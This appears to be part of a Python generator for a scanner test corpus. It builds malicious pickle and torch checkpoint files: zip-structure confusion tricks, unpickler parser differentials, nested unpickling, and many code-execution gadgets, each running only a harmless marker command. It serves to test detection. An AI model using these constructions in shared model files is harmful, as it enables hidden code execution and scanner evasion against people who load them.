        MALFORMED, wrappers.zstd_frame(ckpt), ["os.system"])
    add("zstd_skippable_first.pkl.zst", fam,
        "a zstd skippable frame holding a benign pickle, then a frame with a pickle calling os.system "
        "(decoders skip the first frame unread)",
        MALFORMED, wrappers.zstd_skippable(BENIGN_RAW) + wrappers.zstd_frame(MALICIOUS_PKL), ["os.system"])
    add("zstd_two_frames.pkl.zst", fam,
        "two zstd frames, a benign pickle then one calling os.system: decompression joins the frames",
        MALFORMED, wrappers.zstd_frame(BENIGN_RAW) + wrappers.zstd_frame(MALICIOUS_PKL), ["os.system"])

    # Archives around a pickle.
    add("pickle_in.tar", fam, "a tar holding a README and model.pkl, a raw pickle calling os.system",
        UNSUPPORTED, tar_archive([("README", b"weights for the classifier\n"), ("model.pkl", MALICIOUS_PKL)]),
        ["os.system"])
    add("checkpoint.tar.gz", fam, "a gzipped tar holding a malicious torch checkpoint (model/archive.pt)",
        MALFORMED, gzipped(tar_archive([("model/archive.pt", ckpt)])), ["os.system"])
    add("gzipped_pickle_in.zip", fam, "a plain zip whose stored member model.pkl.gz is a gzipped malicious pickle",
        MALFORMED, zip_archive([Entry("model.pkl.gz", gzipped(MALICIOUS_PKL), align=False)]), ["os.system"])
    arr = npy("|O", (1,), object_array_pickle(os_system()))
    add("object_array_deflated.npz", fam,
        "an .npz (as np.savez_compressed writes it) whose arr_0.npy is DEFLATE-compressed: an object "
        "array whose element is os.system(...)",
        MALFORMED, zip_archive([Entry("arr_0.npy", raw_deflate(arr), method=8, usize=len(arr), plain=arr,
                                      align=False)]), ["os.system"])

    # 7z, one archive per coder 7-Zip writes by default or on request.
    posix = pkl(call(glob("posix", "system"), u(TOUCH)))
    add("pickle_lzma2.7z", fam, "a 7z archive (LZMA2) whose data.pkl is a raw pickle calling posix.system",
        MALFORMED, wrappers.sevenz([("data.pkl", posix)], wrappers.SEVENZ_LZMA2), ["posix.system"])
    add("checkpoint_lzma.7z", fam, "a 7z archive (LZMA) holding a malicious torch checkpoint model.pt",
        MALFORMED, wrappers.sevenz([("model.pt", ckpt)], wrappers.SEVENZ_LZMA), ["os.system"])
    add("unpacked_checkpoint_bzip2.7z", fam,
        "a 7z archive (BZip2) of a torch checkpoint's records as loose files: archive/data.pkl (calling "
        "os.system), byteorder, data/0, version",
        MALFORMED, wrappers.sevenz(checkpoint_records(MALICIOUS_PKL), wrappers.SEVENZ_BZIP2), ["os.system"])
    add("pickle_deflate.7z", fam, "a 7z archive (Deflate) whose weights.pkl calls builtins.exec",
        MALFORMED, wrappers.sevenz([("weights.pkl", exe)], wrappers.SEVENZ_DEFLATE, raw_deflate), ["builtins.exec"])
    add("pickle_copy.7z", fam, "a 7z archive (Copy: stored) of a README and data.pkl, a pickle calling os.system",
        MALFORMED, wrappers.sevenz([("README", b"weights for the classifier\n"), ("data.pkl", MALICIOUS_PKL)],
                                   wrappers.SEVENZ_COPY), ["os.system"])
    add("sevenzip_named.pt", fam,
        "a 7z archive (LZMA2) named .pt, holding a torch checkpoint's records with a malicious data.pkl",
        MALFORMED, wrappers.sevenz(checkpoint_records(MALICIOUS_PKL), wrappers.SEVENZ_LZMA2), ["os.system"])

    # joblib's own container: arrays are written into the pickle stream right after the
    # BUILD of their NumpyArrayWrapper, and an object array is a nested pickle there,
    # which joblib reads with pickle.load from the same file.
    dtype = call(glob("numpy", "dtype"), u("O8"), NEWFALSE, NEWTRUE) + tup(
        i(3), u("|"), NONE, NONE, NONE, i(-1), i(-1), i(63)) + BUILD
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dct(
        (u("subclass"), glob("numpy", "ndarray")), (u("shape"), tup(i(1))), (u("order"), u("C")),
        (u("dtype"), dtype), (u("allow_mmap"), NEWFALSE)) + BUILD
    add("numpy_wrapper.joblib", fam,
        "a joblib.dump file: a dict whose value is a joblib NumpyArrayWrapper of an object array; the "
        "array's bytes, a pickle calling os.system, follow the wrapper's BUILD inside the outer stream",
        UNSAFE, proto(2) + EMPTY_DICT + u("weights") + wrapper + MALICIOUS_PKL + SETITEM + STOP,
        ["joblib.numpy_pickle.NumpyArrayWrapper", "os.system"])


# --------------------------------------------------------------------------------------
# zip_confusion. Archives that zip readers read as different sets of entries:
# the payload sits where one reader looks and another does not.

def _ckpt_entries(data_pkl: bytes) -> list[Entry]:
    return [Entry("archive/data.pkl", data_pkl), Entry("archive/byteorder", b"little"),
            Entry("archive/data/0", FLOATS4), Entry("archive/version", b"3\n")]


def zip_confusion_family(c: Corpus) -> None:
    fam = "zip_confusion"
    add = c.add

    # A benign checkpoint followed by one more local header: a second archive/data.pkl.
    entries = _ckpt_entries(BENIGN_PKL) + [Entry("archive/data.pkl", MALICIOUS_PKL)]
    local, records = zip_pieces(entries)
    cd = b"".join(records)
    add("eocd_count_one_short.pt", fam,
        "the central directory holds 5 records, the end record counts 4: the fifth, a second "
        "archive/data.pkl calling os.system, is inside the directory's declared size but past its count",
        MALFORMED, local + cd + eocd(4, len(cd), len(local)), ["os.system"])
    add("eocd_size_one_record_short.pt", fam,
        "the end record counts all 5 directory records but its directory size covers only 4: the fifth "
        "(a second archive/data.pkl calling os.system) is counted yet outside the declared directory",
        MALFORMED, local + cd + eocd(5, len(b"".join(records[:4])), len(local)), ["os.system"])
    add("eocd_disk_count_differs.pt", fam,
        "the end record says 4 entries on this disk and 5 in total (zipfile reads the total): the fifth "
        "is a second archive/data.pkl calling os.system",
        MALFORMED, local + cd + eocd(5, len(cd), len(local), disk_count=4), ["os.system"])

    # Two directories over the same local headers: one names the benign data.pkl, the
    # other the malicious one. The end records disagree on which is the directory;
    # each directory sits where its own end record's reader expects it.
    benign_cd = b"".join(records[:4])
    evil_cd = b"".join([records[4]] + records[1:4])
    at_evil = len(local)
    comment = benign_cd + eocd(4, len(benign_cd), at_evil + len(evil_cd) + 22)
    add("eocd_in_comment.pt", fam,
        "the end record points at a central directory whose data.pkl calls os.system; its comment holds a "
        "benign directory and a second end record pointing at that, which ends the file: zipfile and torch "
        "take the last end record and see a benign checkpoint",
        MALFORMED, local + evil_cd + eocd(4, len(evil_cd), at_evil, comment=comment), ["os.system"])
    at_benign = at_evil + len(evil_cd)
    z64 = zip64_end(4, len(benign_cd), at_benign, at_benign + len(benign_cd))
    add("zip64_end_disagrees.pt", fam,
        "two central directories: the ZIP64 end record (which zipfile prefers) points at the benign one, "
        "the 32-bit end record, whose fields are not saturated, at the one whose data.pkl calls os.system",
        MALFORMED, local + evil_cd + benign_cd + z64 + eocd(4, len(evil_cd), at_evil), ["os.system"])
    add("cd_points_past_first_data_pkl.pt", fam,
        "two local headers named archive/data.pkl, a benign one first; the central directory's only "
        "data.pkl record points at the second, which calls os.system (a stream reader takes the first)",
        MALFORMED, local + evil_cd + eocd(4, len(evil_cd), at_evil), ["os.system"])

    orphan, _ = zip_pieces([Entry("archive/data.pkl", MALICIOUS_PKL)])
    add("unreferenced_local_header.pt", fam,
        "a benign checkpoint preceded by a local header archive/data.pkl calling os.system that no "
        "directory record points at: only a reader walking the local headers reaches it",
        MALFORMED, orphan + zip_archive(_ckpt_entries(BENIGN_PKL), base=len(orphan)), ["os.system"])
    first = tensor_checkpoint(MALICIOUS_PKL)
    add("two_end_records.pt", fam,
        "two complete archives back to back, each with its own end record: a malicious checkpoint, then a "
        "benign one whose offsets count from the file's start (readers from the end see the benign one)",
        MALFORMED, first + zip_archive(_ckpt_entries(BENIGN_PKL), base=len(first)), ["os.system"])
    add("duplicate_name_case_first.pt", fam,
        "archive/Data.Pkl (calling os.system) listed first, then archive/data.pkl (benign): an exact-name "
        "lookup reads the benign one, a case-insensitive one the malicious one",
        MALFORMED, zip_archive([Entry("archive/Data.Pkl", MALICIOUS_PKL)] + _ckpt_entries(BENIGN_PKL)),
        ["os.system"])

    # Data descriptors (flag bit 3, as torch writes every entry): sizes after the data.
    def descriptor(data: bytes) -> bytes:
        return struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(data), len(data))

    hidden = proto(2) + SHORT_BINBYTES + bytes([16])
    body = hidden + descriptor(hidden) + POP + os_system() + STOP
    check_pickle(body)
    add("descriptor_signature_in_data.pt", fam,
        "data.pkl (flag bit 3, zero sizes in its local header) holds, 4 bytes in, a data descriptor "
        "matching those 4 bytes (inside a SHORT_BINBYTES): a stream reader ends the entry there; the "
        "directory's size covers the whole pickle, which calls os.system",
        UNSAFE, tensor_checkpoint(body, pkl_entry=Entry("archive/data.pkl", body, flags=0x0808, lfh_sizes=(0, 0),
                                                          lfh_crc=0, after=descriptor(body))), ["os.system"])
    add("descriptor_sizes_disagree.pt", fam,
        "data.pkl (flag bit 3) is followed by a data descriptor declaring 0 bytes and CRC 0, while the "
        "central directory gives the real size of a pickle calling os.system (a load reads the "
        "directory's sizes, as torch does, and refuses the global)",
        UNSAFE, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(
            "archive/data.pkl", MALICIOUS_PKL, flags=0x0808, lfh_sizes=(0, 0), lfh_crc=0,
            after=struct.pack("<IIII", 0x08074B50, 0, 0, 0))), ["os.system"])


# --------------------------------------------------------------------------------------
# pickle_differential. Bytes CPython's two unpicklers (the C one, from
# memory or from a file, and pickle.py) read differently. torch.load reads data.pkl
# with the C unpickler from an io.BytesIO (no peek()): an argument that runs past its
# FRAME is read afresh from the frame's end (the rest of the frame is dropped; only the
# bytes opcodes copy it first), while a reader of the bytes in memory reads on across
# it; pickle.py refuses both. Text arguments are parsed by strtol or
# PyOS_string_to_double in C and by int()/float() in pickle.py.

def frame_op(body: bytes) -> bytes:
    return FRAME + struct.pack("<Q", len(body))


def pickle_differential_family(c: Corpus) -> None:
    fam = "pickle_differential"

    def zipped(file, description, data, dangerous, load_error=MALFORMED):
        c.add(file, fam, description, load_error, tensor_checkpoint(data), dangerous)

    # The text a BINUNICODE straddling the frame end reads: for a reader of memory, the
    # 5 bytes left in the frame and 5 after it; for torch.load, the 10 bytes after it.
    payload = os_system()
    hider = BINBYTES + struct.pack("<I", len(payload))
    inside = u("weights") + POP + BINUNICODE + struct.pack("<I", 5 + len(hider)) + b"epoch"
    tail = b"three" + hider + payload + POP + POP + EMPTY_DICT + STOP
    zipped("frame_straddle_binunicode.pt",
           "a BINUNICODE crosses its FRAME's end: read from memory, its text ends 5 bytes past the frame and "
           "a BINBYTES then swallows GLOBAL os.system as data; torch.load (C, from a BytesIO) reads the text "
           "from the frame's end instead and runs os.system; pickle.py refuses",
           proto(4) + frame_op(inside) + inside + tail, ["os.system"])

    run = os_system() + STOP
    outer = frame_op(run) + EMPTY_DICT + BINBYTES + struct.pack("<I", len(run) - 1)
    zipped("frame_inside_frame.pt",
           "a FRAME inside a FRAME, longer than what is left of the outer one: torch.load's reader fetches "
           "the inner frame from the outer frame's end and runs os.system there; a reader of memory goes "
           "on inside the outer frame, where a BINBYTES swallows the payload; pickle.py refuses",
           proto(4) + frame_op(outer) + outer + run, ["os.system"])

    second = proto(4) + os_system() + STOP
    inside = EMPTY_DICT + STOP + SHORT_BINBYTES + bytes([len(second)])
    c.add("stop_inside_frame.pkl", fam,
          "a raw pickle stream whose first pickle stops inside its FRAME: a file reader (pickle.load, "
          "called again) starts the next pickle at the frame's end, where one calls os.system; a reader of "
          "memory starts it right after STOP, where a SHORT_BINBYTES swallows that pickle as data",
          MALFORMED, proto(4) + frame_op(inside) + inside + second + STOP, ["os.system"])

    # Text arguments: the payload follows the argument, so it runs only under the
    # unpickler that reads the argument.
    # A load reads text as pickle.py (torch's weights-only unpickler) does: where
    # pickle.py reads on, it reaches os.system and refuses it as unsafe.
    for file, line, who, load_error in (
        ("int_leading_zero.pt", b"I010\n", "C reads 010 as octal 8 and runs os.system after it; pickle.py "
                                           "(int(s, 0)) refuses", MALFORMED),
        ("int_nul_suffix.pt", b"I1\x00zz\n", "C parses up to the NUL (1) and runs os.system after it; "
                                              "pickle.py refuses", MALFORMED),
        ("long_nul_suffix.pt", b"L7\x00zL\n", "C parses up to the NUL (7) and runs os.system after it; "
                                               "pickle.py refuses", MALFORMED),
        ("float_overflow.pt", b"F1e500\n", "pickle.py reads infinity and runs os.system after it; C raises "
                                           "OverflowError", UNSAFE),
        ("float_underscore.pt", b"F1_0.5\n", "pickle.py reads 10.5 and runs os.system after it; C refuses "
                                             "the underscore", UNSAFE),
    ):
        body = proto(2) + line + POP + os_system() + STOP
        zipped(file, f"text argument {line[:-1]!r}: {who}", body, ["os.system"], load_error)
    body = (proto(4) + su("os") + su("system") + b"p99999999999\n" + POP + b"g99999999999\n" + STACK_GLOBAL
            + su(TOUCH) + TUPLE1 + REDUCE + STOP)
    zipped("memo_key_huge.pt",
           "text PUT and GET of memo key 99999999999 around STACK_GLOBAL's name: pickle.py's dict memo "
           "holds it and reaches os.system; C's memo array cannot grow that far (MemoryError)",
           body, ["os.system"], UNSAFE)
    body = (proto(4) + su("os") + b"p1\x00zz\n" + POP + su("system") + b"p2\n" + POP + b"g1\n" + b"g2\x00q\n"
            + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE + STOP)
    zipped("memo_key_nul.pt",
           "text PUT and GET whose memo keys have a NUL (p1\\0zz, g2\\0q): C reads the keys up to the NUL "
           "and reaches os.system through STACK_GLOBAL; pickle.py refuses the first key",
           body, ["os.system"])

    # STACK_GLOBAL fed by py2 str opcodes: both unpicklers decode them to str (torch.load
    # passes encoding='utf-8'), so both call the function; scanners that only track
    # SHORT_BINUNICODE before STACK_GLOBAL see no name.
    def binstring(s: str) -> bytes:
        return BINSTRING + struct.pack("<i", len(s)) + s.encode()

    for file, op, make, module, name, arg in (
        ("stack_global_string.pt", "STRING", text_string, "os", "system", TOUCH),
        ("stack_global_binstring.pt", "BINSTRING", binstring, "subprocess", "getoutput", TOUCH),
        ("stack_global_short_binstring.pt", "SHORT_BINSTRING", short_binstring, "builtins", "exec", PY_MARKER),
    ):
        body = proto(4) + make(module) + make(name) + STACK_GLOBAL + make(arg) + TUPLE1 + REDUCE + STOP
        check_pickle(body)
        zipped(file, f"STACK_GLOBAL whose module and name are {op} opcodes ({module}.{name})",
               body, [f"{module}.{name}"], UNSAFE)

    zipped("global_without_final_newline.pt",
           "data.pkl ends in GLOBAL 'os\\nsystemX' without the name's newline: pickle.py drops the last byte "
           "as if it were the newline and resolves os.system; C refuses the truncated line",
           proto(2) + u(TOUCH) + POP + b"cos\nsystemX", ["os.system"], UNSAFE)
    zipped("inst_without_mark.pt",
           "INST os.system with no MARK open: pickle.py imports and resolves os.system before it looks "
           "for the mark; C looks for the mark first",
           proto(2) + u(TOUCH) + b"ios\nsystem\n" + STOP, ["os.system"], UNSAFE)
    body = b"cos\nsys"
    zipped("frame_ends_inside_global.pt",
           "a FRAME ends inside GLOBAL's name line: read from memory the name is 'system'; torch.load's "
           "reader takes the rest of the line after the frame ('tem'); pickle.py refuses",
           proto(4) + frame_op(body) + body + b"tem\n" + u(TOUCH) + TUPLE1 + REDUCE + STOP, ["os.system"], UNSAFE)


# --------------------------------------------------------------------------------------
# nested_payload. The outer pickle hands bytes to something that unpickles
# them; the inner payload is os.system, and a scanner must name it too.

INNER = pkl(os_system())


def marshal_bytes(data: bytes) -> bytes:
    """marshal.dumps(data) for a bytes object: TYPE_STRING, a 4-byte length, the bytes."""
    return b"s" + struct.pack("<i", len(data)) + data


def nested_family(c: Corpus) -> None:
    fam = "nested_payload"

    def zipped(file, description, body, dangerous, protocol=3):
        data = pkl(body, protocol)
        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)

    body = os_system() + STOP
    framed = proto(4) + frame_op(body) + body
    zipped("pickle_loads_framed.pt", "pickle.loads of a protocol 4 pickle whose payload sits in a FRAME",
           call(glob("pickle", "loads"), binbytes(framed)), ["pickle.loads", "os.system"])
    zipped("pickle_load_bytesio.pt", "_pickle.load(io.BytesIO(inner)): the C unpickler reading a file object",
           call(glob("_pickle", "load"), call(glob("io", "BytesIO"), binbytes(INNER))), ["_pickle.load", "os.system"])
    zipped("pickle_loads_twice.pt", "pickle.loads of a pickle that itself calls pickle.loads on the payload",
           call(glob("pickle", "loads"), binbytes(pkl(call(glob("pickle", "loads"), binbytes(INNER)), 3))),
           ["pickle.loads", "os.system"])
    zipped("load_from_bytes_zip.pt",
           "torch.storage._load_from_bytes (torch.load with weights_only=False) of a malicious torch checkpoint",
           call(glob("torch.storage", "_load_from_bytes"), binbytes(tensor_checkpoint(MALICIOUS_PKL))),
           ["torch.storage._load_from_bytes", "os.system"])
    zipped("torch_load_pickle_module.pt",
           "torch.load(io.BytesIO(checkpoint), None, torch.serialization.pickle): passing a pickle_module "
           "makes torch.load default to weights_only=False",
           call(glob("torch", "load"), call(glob("io", "BytesIO"), binbytes(tensor_checkpoint(MALICIOUS_PKL))),
                NONE, glob("torch.serialization", "pickle")),
           ["torch.load", "torch.serialization.pickle", "os.system"])
    arr = npy("|O", (1,), object_array_pickle(os_system()))
    zipped("numpy_read_array.pt",
           "numpy.lib.format.read_array(io.BytesIO(npy), True): allow_pickle on an object array with a payload",
           call(glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), binbytes(arr)), NEWTRUE),
           ["numpy.lib.format.read_array", "os.system"])
    npz = zip_archive([Entry("arr_0.npy", arr, align=False)])
    zipped("numpy_load_npz.pt",
           "numpy.load(io.BytesIO(npz), None, True) of an .npz whose arr_0.npy is a malicious object array",
           call(glob("numpy", "load"), call(glob("io", "BytesIO"), binbytes(npz)), NONE, NEWTRUE),
           ["numpy.load", "os.system"])
    # Stored DEFLATE blocks keep the inner pickle readable in the file as it is.
    gz = wrappers.gzip_member(wrappers.stored_deflate(INNER), INNER)
    zipped("gzip_decompress_then_loads.pt", "pickle.loads(gzip.decompress(gzip bytes of the payload))",
           call(glob("pickle", "loads"), call(glob("gzip", "decompress"), binbytes(gz))),
           ["pickle.loads", "os.system"])
    zipped("marshal_then_loads.pt",
           "pickle.loads(marshal.loads(b's' + length + payload)): marshal unwraps the bytes first",
           call(glob("pickle", "loads"), call(glob("marshal", "loads"), binbytes(marshal_bytes(INNER)))),
           ["pickle.loads", "marshal.loads", "os.system"])
    zipped("refused_class_state.pt",
           "a __main__.Model (not allowlisted) built with NEWOBJ, whose BUILD state is a dict carrying the "
           "payload pickle as bytes (a class whose __setstate__ unpickles its blob runs it)",
           glob("__main__", "Model") + EMPTY_TUPLE + NEWOBJ
           + dct((u("epochs"), i(3)), (u("_blob"), binbytes(INNER))) + BUILD, ["os.system"])
    zipped("refused_class_bytes_state.pt",
           "a __main__.Model (not allowlisted) whose BUILD state is the payload pickle itself, as bytes",
           call(glob("__main__", "Model")) + binbytes(INNER) + BUILD, ["os.system"])


# --------------------------------------------------------------------------------------
# gadget. Globals outside the obvious os/subprocess/builtins names that run
# code, spawn processes, create files or unpickle, each used as a REDUCE payload.

# What CPython 3.11 compiles `open('tensorplay_pwned_marker', 'w').close()` to (from
# compile(); constants pasted so the corpus does not depend on the running Python).
CODE_311 = bytes.fromhex(
    "97000200650064006401a6020000ab020000000000000000a0010000000000000000000000000000000000000000"
    "a6000000ab000000000000000000010064025300")
LINETABLE_311 = bytes.fromhex("f003010101d800048004d0051ea003d10024d40024d7002ad2002ad1002cd4002cd0002cd0002cd0002c")
MARSHALLED_CODE_311 = bytes.fromhex(
    "e30000000000000000000000000400000000000000f34200000097000200650064006401a6020000ab020000000000"
    "000000a0010000000000000000000000000000000000000000a6000000ab0000000000000000000100640253002903"
    "da1774656e736f72706c61795f70776e65645f6d61726b6572da01774e2902da046f70656eda05636c6f7365a900f3"
    "00000000fa063c636b70743efa083c6d6f64756c653e720900000001000000732a000000f003010101d80004800"
    "4d0051ea003d10024d40024d7002ad2002ad1002cd4002cd0002cd0002cd0002c7207000000")


def gadget_family(c: Corpus) -> None:
    fam = "gadget"

    def gadget(file, description, body, dangerous, protocol=3):
        data = pkl(body, protocol)
        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)

    def method(name: str, *args: bytes) -> bytes:
        return call(glob("operator", "methodcaller"), u(name), *args)

    touch = binbytes(TOUCH.encode())
    gadget("ctypes_cdll_system.pt", "methodcaller('system', b'touch marker')(ctypes.CDLL(None)): libc's system()",
           call(method("system", touch), call(glob("ctypes", "CDLL"), NONE)), ["ctypes.CDLL", "operator.methodcaller"])
    gadget("ctypes_pythonapi.pt",
           "methodcaller('PyRun_SimpleString', source)(ctypes.pythonapi): the interpreter's C API runs the source",
           call(method("PyRun_SimpleString", binbytes(PY_MARKER.encode())), glob("ctypes", "pythonapi")),
           ["ctypes.pythonapi", "operator.methodcaller"])
    gadget("_ctypes_call_function.pt",
           "_ctypes.call_function(_ctypes.dlsym(_ctypes.dlopen(None), 'system'), (b'touch marker',))",
           call(glob("_ctypes", "call_function"),
                call(glob("_ctypes", "dlsym"), call(glob("_ctypes", "dlopen"), NONE), u("system")), tup(touch)),
           ["_ctypes.call_function", "_ctypes.dlsym", "_ctypes.dlopen"])
    gadget("fx_exec_with_source.pt", "torch.fx.graph_module._exec_with_source(source, {}): exec of a string",
           call(glob("torch.fx.graph_module", "_exec_with_source"), u(PY_MARKER), EMPTY_DICT),
           ["torch.fx.graph_module._exec_with_source"])
    gadget("xxsubinterpreters_run_string.pt",
           "_xxsubinterpreters.run_string(_xxsubinterpreters.create(), source) (Python 3.8 to 3.12)",
           call(glob("_xxsubinterpreters", "run_string"), call(glob("_xxsubinterpreters", "create")), u(PY_MARKER)),
           ["_xxsubinterpreters.run_string", "_xxsubinterpreters.create"])
    gadget("interpreters_exec.pt", "_interpreters.exec(_interpreters.create(), source) (Python 3.13 and later)",
           call(glob("_interpreters", "exec"), call(glob("_interpreters", "create")), u(PY_MARKER)),
           ["_interpreters.exec", "_interpreters.create"])
    gadget("distutils_spawn.pt", "distutils.spawn.spawn(['touch', marker])",
           call(glob("distutils.spawn", "spawn"), lst(u("touch"), u(MARKER))), ["distutils.spawn.spawn"])
    gadget("logging_handlers.pt",
           "logging.FileHandler(marker) creates the file; logging.handlers.SocketHandler('127.0.0.1', 9) "
           "is a channel out",
           tup(call(glob("logging", "FileHandler"), u(MARKER)),
               call(glob("logging.handlers", "SocketHandler"), u("127.0.0.1"), i(9))),
           ["logging.FileHandler", "logging.handlers.SocketHandler"])
    gadget("zipfile_create.pt", "zipfile.ZipFile(marker, 'w') creates the file",
           call(glob("zipfile", "ZipFile"), u(MARKER), u("w")), ["zipfile.ZipFile"])
    gadget("io_open.pt", "io.open(marker, 'w')", call(glob("io", "open"), u(MARKER), u("w")), ["io.open"])
    gadget("_io_open.pt", "_io.open(marker, 'w')", call(glob("_io", "open"), u(MARKER), u("w")), ["_io.open"])
    gadget("fileio.pt", "_io.FileIO(marker, 'w'), then io.FileIO(marker, 'w')",
           tup(call(glob("_io", "FileIO"), u(MARKER), u("w")), call(glob("io", "FileIO"), u(MARKER), u("w"))),
           ["_io.FileIO", "io.FileIO"])
    gadget("sqlite3_connect.pt", "sqlite3.connect(marker) creates a database file",
           call(glob("sqlite3", "connect"), u(MARKER)), ["sqlite3.connect"])
    gadget("marshal_code.pt",
           "types.FunctionType(marshal.loads(code), {})(): a marshalled CPython 3.11 code object that opens the marker",
           call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(MARSHALLED_CODE_311)),
                     EMPTY_DICT)), ["types.FunctionType", "marshal.loads"])
    code = call(glob("types", "CodeType"), i(0), i(0), i(0), i(0), i(4), i(0), binbytes(CODE_311),
                tup(u(MARKER), u("w"), NONE), tup(u("open"), u("close")), EMPTY_TUPLE, u("<ckpt>"), u("<module>"),
                u("<module>"), i(1), binbytes(LINETABLE_311), binbytes(b""), EMPTY_TUPLE, EMPTY_TUPLE)
    gadget("types_codetype.pt",
           "types.FunctionType(types.CodeType(...CPython 3.11 bytecode...), {})(): a function built from fields",
           call(call(glob("types", "FunctionType"), code, EMPTY_DICT)), ["types.CodeType", "types.FunctionType"])
    gadget("numpy_file_gadgets.pt",
           "numpy.savetxt(marker, [0]) creates the file, numpy.memmap(marker, 'uint8', 'w+', 0, (1,)) maps it "
           "writable, numpy.load(marker, None, True) unpickles whatever is there",
           tup(call(glob("numpy", "savetxt"), u(MARKER), lst(i(0))),
               call(glob("numpy", "memmap"), u(MARKER), u("uint8"), u("w+"), i(0), tup(i(1))),
               call(glob("numpy", "load"), u(MARKER), NONE, NEWTRUE)),
           ["numpy.savetxt", "numpy.memmap", "numpy.load"])
    legacy = LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL + pkl(EMPTY_LIST)
    gadget("load_from_bytes_legacy.pt",
           "torch.storage._load_from_bytes of a legacy-format (pre-1.6) stream whose main pickle calls os.system",
           call(glob("torch.storage", "_load_from_bytes"), binbytes(legacy)),
           ["torch.storage._load_from_bytes", "os.system"])
    gadget("posixsubprocess_fork_exec.pt",
           "_posixsubprocess.fork_exec(['touch', marker], ['/usr/bin/touch'], ...): subprocess's own fork+exec",
           call(glob("_posixsubprocess", "fork_exec"), lst(binbytes(b"touch"), binbytes(MARKER.encode())),
                lst(binbytes(b"/usr/bin/touch")), NEWTRUE, EMPTY_TUPLE, NONE, NONE,
                *(i(-1) for _ in range(8)), NEWFALSE, NEWFALSE, i(-1), NONE, NONE, i(-1), NONE),
           ["_posixsubprocess.fork_exec"])
    gadget("multiprocessing_process.pt",
           "methodcaller('start')(multiprocessing.Process(None, os.system, None, (cmd,)))",
           call(method("start"), call(glob("multiprocessing", "Process"), NONE, glob("os", "system"), NONE,
                                     tup(u(TOUCH)))),
           ["multiprocessing.Process", "os.system", "operator.methodcaller"])
    gadget("multiprocessing_spawnv.pt",
           "multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', [b'touch', marker], ()): fork and exec",
           call(glob("multiprocessing.util", "spawnv_passfds"), binbytes(b"/usr/bin/touch"),
                lst(binbytes(b"touch"), binbytes(MARKER.encode())), EMPTY_TUPLE),
           ["multiprocessing.util.spawnv_passfds"])
    gadget("asyncio_subprocess_shell.pt", "asyncio.run(asyncio.create_subprocess_shell(cmd))",
           call(glob("asyncio", "run"), call(glob("asyncio", "create_subprocess_shell"), u(TOUCH))),
           ["asyncio.run", "asyncio.create_subprocess_shell"])
    gadget("pdb_run.pt", "pdb.run(source): the debugger executes the statement",
           call(glob("pdb", "run"), u(PY_MARKER)), ["pdb.run"])
    gadget("code_interpreter.pt", "methodcaller('runsource', source)(code.InteractiveInterpreter())",
           call(method("runsource", u(PY_MARKER)), call(glob("code", "InteractiveInterpreter"))),
           ["code.InteractiveInterpreter", "operator.methodcaller"])
    gadget("code_interact.pt",
           "code.interact(None, functools.partial(builtins.next, iter([source]))): the console reads its "
           "input from the file",
           call(glob("code", "interact"), NONE,
                call(glob("functools", "partial"), glob("builtins", "next"),
                     call(glob("builtins", "iter"), lst(u(PY_MARKER))))),
           ["code.interact", "functools.partial"])
    gadget("idlelib_calltip.pt", "idlelib.calltip.get_entity(expression) evaluates the expression",
           call(glob("idlelib.calltip", "get_entity"), u(f"__import__('os').system({TOUCH!r})")),
           ["idlelib.calltip.get_entity"])
    gadget("webbrowser_get.pt", "methodcaller('open', marker)(webbrowser.get('touch %s')): the 'browser' is touch",
           call(method("open", u(MARKER)), call(glob("webbrowser", "get"), u("touch %s"))),
           ["webbrowser.get", "operator.methodcaller"])
    gadget("runpy_run_path.pt", "runpy.run_path(marker + '.py'), then runpy._run_module_code(source)",
           tup(call(glob("runpy", "run_path"), u(MARKER + ".py")),
               call(glob("runpy", "_run_module_code"), u(PY_MARKER))),
           ["runpy.run_path", "runpy._run_module_code"])
    gadget("importlib_import_module.pt", "methodcaller('system', cmd)(importlib.import_module('posix'))",
           call(method("system", u(TOUCH)), call(glob("importlib", "import_module"), u("posix"))),
           ["importlib.import_module", "operator.methodcaller"])
    getattr_ = glob("builtins", "getattr")
    chain = call(getattr_, glob("torch._utils", "_rebuild_tensor_v2"), u("__globals__"))
    chain = call(call(getattr_, chain, u("get")), u("torch"))
    chain = call(getattr_, call(getattr_, chain, u("os")), u("system"))
    gadget("getattr_globals_chain.pt",
           "getattr from an allowlisted function: _rebuild_tensor_v2.__globals__.get('torch').os.system(cmd)",
           call(chain, u(TOUCH)), ["builtins.getattr"])
    gadget("attrgetter_through_module.pt",
           "operator.attrgetter('torch.os.system')(torch._utils)(cmd): a dotted path through modules torch imported",
           call(call(call(glob("operator", "attrgetter"), u("torch.os.system")), glob("torch", "_utils")), u(TOUCH)),
           ["operator.attrgetter"])
    gadget("partial_os_system.pt", "functools.partial(os.system, cmd)() through REDUCE",
           call(call(glob("functools", "partial"), glob("os", "system"), u(TOUCH))), ["functools.partial", "os.system"])
    gadget("stack_global_dotted_name.pt",
           "protocol 4 STACK_GLOBAL('torch', 'os.system'): pickle resolves dotted names attribute by attribute, "
           "so this is os.system under the module name torch",
           su("torch") + su("os.system") + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE, ["torch.os.system"], 4)
    gadget("imaplib_stream.pt", "imaplib.IMAP4_stream(cmd) runs the command through a shell",
           call(glob("imaplib", "IMAP4_stream"), u(TOUCH)), ["imaplib.IMAP4_stream"])
    gadget("osx_support_read_output.pt", "_osx_support._read_output(cmd) runs the command with os.system",
           call(glob("_osx_support", "_read_output"), u(TOUCH)), ["_osx_support._read_output"])
    gadget("uuid_command_stdout.pt", "uuid._get_command_stdout('touch', marker) runs the command",
           call(glob("uuid", "_get_command_stdout"), u("touch"), u(MARKER)), ["uuid._get_command_stdout"])
    gadget("pydoc_pipepager.pt", "pydoc.pipepager(text, cmd) pipes the text to a shell command",
           call(glob("pydoc", "pipepager"), u(""), u(TOUCH)), ["pydoc.pipepager"])
